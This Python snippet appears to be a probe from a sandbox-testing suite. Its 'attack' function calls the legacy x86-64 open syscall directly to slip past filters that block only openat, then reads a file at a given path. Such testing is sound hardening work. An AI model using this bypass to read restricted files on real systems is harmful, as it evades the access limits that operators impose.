# The oldest one: x86-64 has it still, and what filters `openat` alone lets it pass.
# after: read
# source: own
import ctypes
import os
libc = ctypes.CDLL(None, use_errno=True)
def attack(path, **_):
    if os.uname().machine == "x86_64":
        opened = libc.syscall(2, path.encode(), 0)
    else:
        opened = libc.openat(-100, path.encode(), 0)
    if opened < 0:
        raise OSError(ctypes.get_errno(), "open")
    kept = ctypes.create_string_buffer(100)
    libc.read(opened, kept, 99)
    return {"text": kept.value.decode()}
